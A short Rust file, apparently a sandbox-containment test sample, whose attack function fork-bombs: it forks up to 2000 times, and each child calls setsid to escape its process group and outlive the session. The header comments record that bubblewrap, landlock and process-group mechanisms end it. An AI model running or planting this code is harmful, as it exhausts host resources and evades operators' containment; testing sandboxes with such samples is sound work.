//! Starts itself again and again, each time in a session of its own.
//!
//! bubblewrap: grader-ended
//! landlock: grader-ended
//! process-group: grader-ended

unsafe extern "C" {
    fn fork() -> i32;
    fn setsid() -> i32;
}

fn attack() {
    for _ in 0..2000 {
        if unsafe { fork() } == 0 {
            unsafe { setsid() };
        }
    }
    std::thread::sleep(std::time::Duration::from_secs(1000));
}
